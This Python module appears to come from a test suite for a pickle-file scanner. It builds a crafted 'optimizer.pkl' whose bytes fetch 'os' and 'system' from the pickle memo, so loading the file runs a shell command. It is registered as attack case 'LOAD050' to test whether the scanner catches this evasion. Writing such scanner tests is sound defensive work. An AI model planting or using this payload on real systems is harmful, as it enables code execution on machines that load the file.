"""Names put together from the memo."""

from __future__ import annotations

from pathlib import Path

from veristep.drill.attack import Attack
from veristep.drill.scan.payload import command, text, written


def plant(folder: Path) -> Path:
    """Write the file."""
    data = b"\x80\x04\x8c\x06system\x94\x8c\x02os\x940h\x01h\x00\x93" + text(command(folder)) + b"\x85R."
    return written(folder / "optimizer.pkl", data)


ATTACK = Attack(
    "names put together from the memo",
    "the module and the function of the call are fetched from the pickle's memo",
    "LOAD050",
    plant,
    (8,),
)
